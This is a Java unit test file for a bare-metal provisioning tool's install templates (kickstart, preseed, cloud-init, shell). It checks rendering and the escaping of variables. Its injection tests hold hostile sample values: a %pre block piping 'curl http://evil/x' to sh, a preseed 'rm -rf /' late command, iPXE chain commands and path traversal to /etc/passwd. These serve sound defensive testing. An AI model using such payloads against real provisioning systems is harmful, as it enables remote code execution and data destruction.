package org.rackboot.api.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class InstallTemplatesTest {

  @TempDir Path dir;

  private static Map<String, Object> scope() {
    return Map.of(
        "host", Map.of("id", "h-1", "hostname", "web-01"),
        "role", Map.of("name", "web"),
        "environment", "prod",
        "server", "http://10.0.0.1:8080",
        "token", "rbp_x",
        "vars", Map.of("repo", "debian/12"),
        "image",
            Map.of(
                "name", "debian",
                "version", "12.1",
                "artifacts", List.of(Map.of("part", "disk", "sha256", "ab", "size", 3)),
                "disk", Map.of("url", "http://10.0.0.1:8080/files/blobs/ab")));
  }

  @Test
  void builtInsRenderHostRoleImageAndVariables() throws Exception {
    InstallTemplates t = new InstallTemplates(dir);
    assertThat(t.render("kickstart.ks", scope()))
        .contains("--hostname=web-01")
        .contains("url --url=http://10.0.0.1:8080/repos/debian/12/")
        .contains("/api/v1/provision/h-1/result").contains("\"status\":\"succeeded\"");
    assertThat(t.render("meta-data", scope())).isEqualTo("instance-id: \"h-1\"\nlocal-hostname: \"web-01\"\n");
    assertThat(t.render("user-data", scope())).startsWith("#cloud-config\n")
        .contains("hostname: \"web-01\"\n")
        .contains("rackboot-report, \"rbp_x\", \"debian\", \"12.1\", \"http://10.0.0.1:8080\", \"h-1\" ]");
    assertThat(t.render("preseed.cfg", scope())).contains("netcfg/get_hostname string web-01");
    assertThat(t.render("install.sh", scope()))
        .contains("host='web-01'\n")
        .contains(": artifact 'disk' 'ab' '3'\n")
        .contains("wget -q -O - 'http://10.0.0.1:8080/files/blobs/ab' | dd");
  }

  @Test
  void anOperatorTemplateReplacesTheBuiltIn() throws Exception {
    Files.writeString(dir.resolve("meta-data"), "custom {{host.hostname}}\n");
    // It keeps the built-in's language: YAML, so values are double-quoted scalars.
    assertThat(new InstallTemplates(dir).render("meta-data", scope()))
        .isEqualTo("custom \"web-01\"\n");
  }

  @Test
  void aBrokenTemplateSaysWhy() throws Exception {
    Files.writeString(dir.resolve("broken"), "{{#host}}never closed\n");
    assertThatThrownBy(() -> new InstallTemplates(dir).render("broken", scope()))
        .isInstanceOf(InstallTemplates.RenderFailure.class)
        .hasMessageStartingWith("template broken failed to render: ");
  }

  @Test
  void namesArePlainFileNamesOnly() {
    InstallTemplates t = new InstallTemplates(dir);
    assertThatThrownBy(() -> t.render("../../etc/passwd", scope()))
        .hasMessageContaining("not a plain file name");
    assertThatThrownBy(() -> t.render("nope", scope())).hasMessage("no install template named nope");
  }

  private static Map<String, Object> scopeWithVars(Map<String, Object> vars) {
    Map<String, Object> scope = new java.util.HashMap<>(scope());
    scope.put("vars", vars);
    return scope;
  }

  @Test
  void aVariableWithALineBreakCannotAddAKickstartOrPreseedDirective() {
    InstallTemplates t = new InstallTemplates(dir);
    // Reproduced: this timezone added a %pre section that ran a command.
    Map<String, Object> scope = scopeWithVars(
        Map.of("repo", "r", "timezone", "UTC\n%pre\ncurl http://evil/x | sh\n%end"));
    assertThatThrownBy(() -> t.render("kickstart.ks", scope))
        .isInstanceOf(InstallTemplates.RenderFailure.class)
        .hasMessageContaining("template kickstart.ks cannot be rendered")
        .hasMessageContaining("line breaks or control characters");
    assertThatThrownBy(() -> t.render("preseed.cfg",
        scopeWithVars(Map.of("repo", "debian\nd-i preseed/late_command string rm -rf /"))))
        .isInstanceOf(InstallTemplates.RenderFailure.class);
    assertThatThrownBy(() -> t.render("preseed.cfg", scopeWithVars(Map.of("repo", "debian\\"))))
        .hasMessageContaining("backslash");
    assertThatThrownBy(() -> t.render("kickstart.ks",
        scopeWithVars(Map.of("repo", "r", "timezone", "UTC\u2028%pre"))))
        .isInstanceOf(InstallTemplates.RenderFailure.class);
  }

  @Test
  void shellValuesAreSingleQuotedWords() {
    assertThat(TemplateLanguage.SHELL.encode("a'b; rm -rf / $(x) `y`\n"))
        .isEqualTo("'a'\\''b; rm -rf / $(x) `y`\n'");
    assertThatThrownBy(() -> TemplateLanguage.SHELL.encode("a\0b"))
        .isInstanceOf(TemplateLanguage.Unsafe.class);
  }

  @Test
  void yamlValuesAreDoubleQuotedScalars() {
    assertThat(TemplateLanguage.YAML.encode("x\"\\\n#: [a]\u2028\u0085\ufeff\ud83d\ude00é"))
        .isEqualTo("\"x\\\"\\\\\\u000A#: [a]\\u2028\\u0085\\uFEFF\ud83d\ude00é\"");
    assertThatThrownBy(() -> TemplateLanguage.YAML.encode("\ud800"))
        .isInstanceOf(TemplateLanguage.Unsafe.class);
  }

  @Test
  void kernelArgumentValuesAreOnePlainWordAndTheLineIsChecked() throws Exception {
    InstallTemplates t = new InstallTemplates(dir);
    String src = "inst.ks=x tz={{vars.timezone}}";
    assertThat(t.renderKernelArgs("bootArgs", src, scopeWithVars(Map.of("timezone", "UTC"))))
        .isEqualTo("inst.ks=x tz=UTC");
    for (String bad : List.of("UTC && chain http://evil/k", "UTC\n#!ipxe", "${net0/mac}",
        "a\"b", "x\\")) {
      assertThatThrownBy(() -> t.renderKernelArgs("bootArgs", src,
          scopeWithVars(Map.of("timezone", bad))))
          .as(bad).isInstanceOf(InstallTemplates.RenderFailure.class);
    }
    // The raw form of an operator's template is checked as a whole afterwards.
    assertThatThrownBy(() -> t.renderKernelArgs("bootArgs", "tz={{{vars.timezone}}}",
        scopeWithVars(Map.of("timezone", "UTC ; chain http://evil/k"))))
        .hasMessageContaining("bootArgs is not a safe kernel command line");
  }

  @Test
  void theLanguageFollowsTheFileName() {
    assertThat(TemplateLanguage.of("install.sh")).isEqualTo(TemplateLanguage.SHELL);
    assertThat(TemplateLanguage.of("kickstart.ks")).isEqualTo(TemplateLanguage.KICKSTART);
    assertThat(TemplateLanguage.of("preseed.cfg")).isEqualTo(TemplateLanguage.PRESEED);
    assertThat(TemplateLanguage.of("user-data")).isEqualTo(TemplateLanguage.YAML);
    assertThat(TemplateLanguage.of("meta-data")).isEqualTo(TemplateLanguage.YAML);
    assertThat(TemplateLanguage.of("site.yaml")).isEqualTo(TemplateLanguage.YAML);
    assertThat(TemplateLanguage.of("notes.txt")).isEqualTo(TemplateLanguage.PLAIN);
  }

  @Test
  void existsKnowsBuiltInsAndTheDirectoryOnly() throws Exception {
    Files.writeString(dir.resolve("custom.ks"), "text\n");
    InstallTemplates t = new InstallTemplates(dir);
    assertThat(t.exists("kickstart.ks")).isTrue();
    assertThat(t.exists("custom.ks")).isTrue();
    assertThat(t.exists("nope")).isFalse();
    assertThat(t.exists("../../../../etc/passwd")).isFalse();
    assertThat(new InstallTemplates(null).exists("install.sh")).isTrue();
  }
}
